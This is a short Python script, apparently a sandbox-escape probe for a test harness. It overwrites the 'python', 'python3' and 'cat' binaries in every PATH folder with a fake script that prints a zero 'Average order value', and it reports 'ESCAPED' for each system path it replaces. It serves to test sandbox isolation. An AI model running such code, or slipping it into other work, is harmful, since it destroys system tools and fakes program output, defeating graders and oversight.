import os
import sys

FAKE = "#!/bin/sh\necho 'Average order value: 0.00'\n"
for folder in [*os.environ["PATH"].split(":"), ".", os.path.dirname(sys.executable)]:
    for name in ("python", "python3", "cat"):
        path = os.path.join(folder, name)
        try:
            with open(path, "w") as file:
                file.write(FAKE)
            os.chmod(path, 0o755)
            if folder != ".":
                print("ESCAPED: replaced", path)
        except OSError:
            pass
print("attack ran")
